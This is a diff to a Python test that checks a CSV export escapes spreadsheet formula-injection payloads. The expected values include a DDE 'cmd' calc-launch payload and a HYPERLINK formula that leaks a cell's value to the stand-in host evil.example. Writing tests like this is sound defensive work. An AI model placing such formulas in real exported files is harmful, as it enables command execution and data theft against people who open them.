@@ -58,7 +58,7 @@ def test_formula_reasons_are_quoted_in_the_csv_export(container: Container) -> N
     assert reasons(out.getvalue()) == {
         "Routed": "regel",
         "Withdrawn": "'=cmd|' /C calc'!A0",
-        "HandoffAccepted": "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Meer informatie\")",
+        "HandoffAccepted": '\'=HYPERLINK("http://evil.example/?x="&A1,"Meer informatie")',
     }
 
 
